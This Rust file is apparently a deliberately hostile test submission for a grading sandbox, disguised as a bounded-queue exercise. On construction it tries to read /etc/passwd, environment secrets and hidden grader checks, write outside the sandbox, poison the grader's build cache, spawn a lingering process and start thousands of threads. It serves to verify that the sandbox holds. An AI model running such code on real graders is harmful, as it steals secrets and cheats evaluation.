//! Hostile, beyond the scan: `std` re-exported by a module (`m::std::…`, which no scan of
//! paths sees as `std`) reaches the files, the environment, processes and threads of the
//! grading machine. The first queue made in a process tries, and every queue made
//! panics with what it got:
//! - lists `/` and the course's folder, reads `/etc/passwd` and the hidden checks;
//! - reads the environment (in CI: tokens) and its own `/proc/self/environ`;
//! - writes a file outside the sandbox and one into the grader's cache of built programs;
//! - starts `setsid sleep 6543`, a process that would outlive its check;
//! - starts 4,000 threads that sleep.
//!
//! Expected: failed (a panic), every attempt refused by the OS boundary: no listing, no
//! file contents, no variable, no file written, no process left, far fewer threads.

mod m {
    pub use std;
}

use conveyor::sync::{Condvar, Mutex, MutexGuard};
use m::std::collections::VecDeque;

pub struct BoundedQueue<T> {
    items: Mutex<VecDeque<T>>,
    not_full: Condvar,
    not_empty: Condvar,
    capacity: usize,
}

fn attempt() -> String {
    let mut got = Vec::new();
    for dir in ["/", ".", "/tmp"] {
        let names: Vec<String> = match m::std::path::Path::new(dir).read_dir() {
            Ok(entries) => entries
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect(),
            Err(e) => vec![format!("error {e}")],
        };
        got.push(format!("list {dir}: {names:?}"));
    }
    for file in [
        "/etc/passwd",
        "lessons/producer-consumer/01-bounded-queue/checks.rs",
        "/proc/self/environ",
    ] {
        let text = m::std::fs::read_to_string(file).unwrap_or_else(|e| format!("error {e}"));
        got.push(format!("read {file}: {text}"));
    }
    let vars: Vec<String> = m::std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    got.push(format!("vars: {vars:?}"));
    for file in [
        "/tmp/grader-hostile-escape",
        "target/grader/built/grader-hostile-poison",
    ] {
        let wrote = m::std::fs::write(file, "escaped");
        got.push(format!("write {file}: {wrote:?}"));
    }
    let child = m::std::process::Command::new("setsid").args(["sleep", "6543"]).spawn();
    got.push(format!("setsid: {:?}", child.map(|c| c.id())));
    let mut threads = 0;
    for _ in 0..4000 {
        let started = m::std::thread::Builder::new()
            .stack_size(16 * 1024)
            .spawn(|| m::std::thread::sleep(m::std::time::Duration::from_secs(60)));
        if started.is_err() {
            break;
        }
        threads += 1;
    }
    got.push(format!("threads: {threads}"));
    got.join("\n")
}

static GOT: m::std::sync::OnceLock<String> = m::std::sync::OnceLock::new();

impl<T> BoundedQueue<T> {
    pub fn new(capacity: usize) -> Self {
        assert!(capacity > 0, "a queue needs room for at least one item");
        panic!("{}", GOT.get_or_init(attempt));
    }

    fn items(&self) -> MutexGuard<'_, VecDeque<T>> {
        self.items.lock().unwrap()
    }

    pub fn put(&self, item: T) {
        let mut items = self.items();
        while items.len() >= self.capacity {
            items = self.not_full.wait(items).unwrap();
        }
        items.push_back(item);
        self.not_empty.notify_one();
    }

    pub fn try_put(&self, item: T) -> Result<(), T> {
        let mut items = self.items();
        if items.len() >= self.capacity {
            return Err(item);
        }
        items.push_back(item);
        self.not_empty.notify_one();
        Ok(())
    }

    pub fn take(&self) -> T {
        let mut items = self.items();
        while items.is_empty() {
            items = self.not_empty.wait(items).unwrap();
        }
        let item = items.pop_front().unwrap();
        self.not_full.notify_one();
        item
    }

    pub fn len(&self) -> usize {
        self.items().len()
    }

    pub fn is_empty(&self) -> bool {
        self.items().is_empty()
    }

    pub fn capacity(&self) -> usize {
        self.capacity
    }
}
